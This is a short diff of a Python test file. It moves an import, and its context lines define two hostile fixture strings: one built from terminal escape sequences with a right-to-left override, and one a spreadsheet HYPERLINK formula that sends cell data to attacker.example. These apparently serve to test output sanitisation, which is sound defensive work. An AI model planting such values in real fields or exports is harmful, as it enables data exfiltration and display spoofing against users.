@@ -14,7 +14,7 @@ import time
 import pytest
 
 from tests.conftest import REPO, ReceiverServer
-from tests.integration.test_api_reads import MS, RUN, SPAN_A, otlp_span, post_spans
+from tests.helpers import MS, RUN, SPAN_A, otlp_span, post_spans
 
 NAME = "\x1b]0;owned\x07\x1b[2J\x9b31mrun\u202eevil"
 SERVICE = '=HYPERLINK("http://attacker.example/?"&A1,"click me")'
